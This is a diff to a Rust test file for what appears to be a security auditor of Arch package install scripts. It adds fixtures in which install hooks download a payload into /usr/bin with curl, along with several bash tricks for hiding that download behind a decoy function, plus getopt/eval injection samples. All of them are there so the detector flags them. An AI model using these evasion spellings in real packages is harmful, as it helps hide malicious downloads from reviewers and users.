@@ -88,23 +88,28 @@ fn a_getopt_of_another_directory_or_another_program_is_still_eval_review() {
     }
 }
 
-// Class: an install file that defines functions and calls them by name — Nowaker's
-// nexus-jetty-https defines `http() { sed -i … }` and `https() { sed -i … }` and calls `https`
-// from post_install — had each call read as HTTPie's `http`/`https` client (AUR-INSTALL-NETWORK
-// high). The shell runs a function defined under a name before any program of that name: the
-// call runs the function's body, which is walked and judged where it is called.
+// Tried and withdrawn: an install file that defines functions and calls them by name —
+// Nowaker's nexus-jetty-https defines `http() { sed -i … }` and `https() { sed -i … }` and calls
+// `https` from post_install — has each call read as HTTPie's `http`/`https` client
+// (AUR-INSTALL-NETWORK high). Landing 7 read such a call as the function alone when the
+// definition "surely holds"; a fresh-eyes round (attack 27, F2, F3, F4, F8) hid a real download
+// behind a decoy five more ways bash allows (`BASH_ALIASES[curl]=…` under posix mode, `builtin
+// return` before the decoy, a decoy that runs the program itself through `command
+// "${FUNCNAME[0]}"` or `"$(type -P curl)"`, `unset -f` spelt through a variable or quotes). A
+// rule that must prove a program does *not* run loses to the next spelling; the call is read as
+// the program again, and the false "dangerous" stays (bench/RESULTS.md, "Landing 7").
 
 const CONNECTOR_SWITCH: &str = "http='<New class=\"org.eclipse.jetty.server.nio.SelectChannelConnector\">'\nhttps='<New class=\"org.example.jetty.SslConnector\">'\nconfig='/opt/nexus/conf/jetty.xml'\n\nhttp() {\n  if [ -f \"$config\" ]; then\n    sed -i \"s/$https/$http/\" \"$config\"\n  fi\n}\n\nhttps() {\n  if [ -f \"$config\" ]; then\n    sed -i \"s/$http/$https/\" \"$config\"\n  fi\n}\n\npost_install() {\n  https\n}\n\npost_upgrade() {\n  https\n}\n\npost_remove() {\n  http\n}\n";
 
 #[test]
-fn a_function_the_install_file_defines_is_not_the_program_of_that_name() {
+fn a_call_by_a_programs_name_is_the_program_even_where_the_file_defines_a_function_of_it() {
     let r = audit(&package("nexus-connector", None, Some(CONNECTOR_SWITCH)));
-    assert!(
-        max_of(&r, "AUR-INSTALL-NETWORK").is_none(),
+    assert_eq!(
+        max_of(&r, "AUR-INSTALL-NETWORK"),
+        Some(Severity::High),
         "{}",
         r.to_text()
     );
-    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
 }
 
 #[test]
@@ -143,6 +148,13 @@ fn the_network_program_itself_or_a_function_that_downloads_is_still_caught() {
         // The function's own body downloads: judged where it is called.
         "fetch_it() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\npost_install() {\n  fetch_it\n}\n",
         "curl() {\n  command curl \"$@\"\n}\npost_install() {\n  curl -fsSL https://example.org/payload -o /usr/bin/payload\n}\n",
+        // Attack 27 F2, F3, F4, F8: the decoy undone or going around itself.
+        "set -o posix\ncurl() { :; }\nBASH_ALIASES[curl]='command curl'\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
+        "post_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\nbuiltin return 0\ncurl() { :; }\n",
+        "curl() { command \"${FUNCNAME[0]}\" \"$@\"; }\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
+        "curl() { \"$(type -P curl)\" \"$@\"; }\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
+        "curl() { :; }\nn=curl\nunset -f \"$n\"\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
+        "curl() { :; }\nbuiltin unset -f cu''rl\npost_install() {\n  curl -fsSL https://example.org/p -o /usr/bin/p\n}\n",
     ] {
         let r = audit(&package("nexus-connector", None, Some(script)));
         assert_eq!(
@@ -279,5 +291,25 @@ fn sweeping_deletions_in_homes_stay_dangerous() {
             r.to_text()
         );
         assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
+    }
+}
+
+/// Attack 27 F9: getopt's `-u`/`--unquoted` prints the words bare, so `eval set -- "$opts"`
+/// runs an argument as code; the idiom is the quoting getopt only.
+#[test]
+fn an_unquoting_getopt_is_not_the_option_idiom() {
+    for line in [
+        "opts=\"$(getopt -u -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+        "opts=\"$(/usr/bin/getopt --unquoted -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+        "opts=\"$(getopt --unq -o ha -- \"$@\")\"\neval set -- \"$opts\"",
+        "eval set -- \"$(getopt -qu -o ha -- \"$@\")\"",
+    ] {
+        let tool = format!("#!/bin/bash\nf() {{\n{line}\n}}\nf \"$@\"\n");
+        let r = audit(&package("driver-tool", Some(("driver-tool", &tool)), None));
+        assert!(
+            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
+            "{line}\n{}",
+            r.to_text()
+        );
     }
 }
